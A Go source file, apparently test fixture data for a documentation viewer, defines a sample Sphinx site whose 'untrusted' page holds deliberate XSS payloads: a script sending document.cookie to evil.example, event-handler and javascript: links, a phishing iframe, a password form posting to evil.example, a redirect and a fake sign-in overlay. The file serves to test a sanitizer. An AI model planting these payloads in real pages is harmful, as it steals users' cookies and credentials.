package docs

// HostileProject and HostileDoc name the page whose HTML is hostile on
// purpose, as a real hosted page could be: GET
// /api/v2/embed/?project=kitchen-sink&doc=untrusted (any built version; add
// section=scripts, event-handlers, links, frames-and-forms or styles for one
// part). The sandbox returns it as is; neutralising it is the viewer's job.
const (
	HostileProject = "kitchen-sink"
	HostileDoc     = "untrusted"
)

// kitchenSinkPages are kitchen-sink's pages (Sphinx html builder, so .html
// URLs): an ordinary index and the hostile "untrusted" page.
func kitchenSinkPages() map[string]*section {
	return map[string]*section{
		"index": sec("kitchen-sink", "Kitchen Sink", []string{
			`<p>This site shows every construct the theme styles. Start with the <a class="reference internal" href="untrusted.html">untrusted HTML</a> page if you are testing a sanitizer.</p>`,
		},
			sec("admonitions", "Admonitions", []string{
				`<div class="admonition note">` + "\n" + `<p class="admonition-title">Note</p>` + "\n" +
					`<p>Admonitions are rendered as a <code class="docutils literal notranslate"><span class="pre">div</span></code> with a title paragraph.</p>` + "\n" + `</div>`,
				`<div class="admonition warning">` + "\n" + `<p class="admonition-title">Warning</p>` + "\n" +
					`<p>Do not embed pages you do not trust without sanitizing them.</p>` + "\n" + `</div>`,
			}),
			sec("code", "Code", []string{
				`<div class="highlight-python notranslate"><div class="highlight"><pre><span></span><span class="k">def</span> <span class="nf">greet</span><span class="p">(</span><span class="n">name</span><span class="p">):</span>` + "\n" +
					`    <span class="k">return</span> <span class="sa">f</span><span class="s2">&quot;Hello, </span><span class="si">{</span><span class="n">name</span><span class="si">}</span><span class="s2">!&quot;</span>` + "\n" + `</pre></div>` + "\n" + `</div>`,
			}),
			sec("images-and-tables", "Images and tables", []string{
				`<img alt="The kitchen sink logo" class="align-center" src="_images/logo.png" />`,
				`<table class="docutils align-default">` + "\n" + `<thead>` + "\n" +
					`<tr class="row-odd"><th class="head"><p>Builder</p></th>` + "\n" + `<th class="head"><p>Output</p></th>` + "\n" + `</tr>` + "\n" +
					`</thead>` + "\n" + `<tbody>` + "\n" +
					`<tr class="row-even"><td><p>html</p></td>` + "\n" + `<td><p>One file per page</p></td>` + "\n" + `</tr>` + "\n" +
					`<tr class="row-odd"><td><p>dirhtml</p></td>` + "\n" + `<td><p>One directory per page</p></td>` + "\n" + `</tr>` + "\n" +
					`</tbody>` + "\n" + `</table>`,
			}),
		),
		HostileDoc: sec("untrusted-html", "Untrusted HTML", []string{
			`<p>This page is hostile on purpose. Every section below carries markup that must not run or escape when the page is embedded elsewhere.</p>`,
		},
			sec("scripts", "Scripts", []string{
				`<script>document.title = "pwned"; fetch("https://evil.example/steal?c=" + encodeURIComponent(document.cookie));</script>`,
				`<p>Text after an inline script.</p>`,
				`<script src="https://evil.example/payload.js"></script>`,
			}),
			sec("event-handlers", "Event handlers", []string{
				`<img alt="A diagram that fails to load" src="missing-diagram.png" onerror="alert(document.domain)" />`,
				`<p onmouseover="alert('hover')" style="color: red; background-image: url(javascript:alert(1))">Hover over this paragraph.</p>`,
				`<svg width="20" height="20" onload="alert('svg')"><circle cx="10" cy="10" r="8" /></svg>`,
			}),
			sec("links", "Links", []string{
				`<p>Read <a href="javascript:alert(document.cookie)">the manual</a>, open <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">this data link</a>, or visit <a href="https://evil.example/" target="_blank" onclick="steal()">a normal-looking site</a>.</p>`,
			}),
			sec("frames-and-forms", "Frames and forms", []string{
				`<iframe src="https://evil.example/phish" width="600" height="400"></iframe>`,
				`<form action="https://evil.example/login" method="post"><input name="password" type="password" /><button type="submit">Sign in</button></form>`,
				`<meta http-equiv="refresh" content="0; url=https://evil.example/" />`,
			}),
			sec("styles", "Styles", []string{
				`<style>body { display: none !important; }</style>`,
				`<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999; background: #fff">Your session expired. Please sign in again.</div>`,
			}),
		),
	}
}
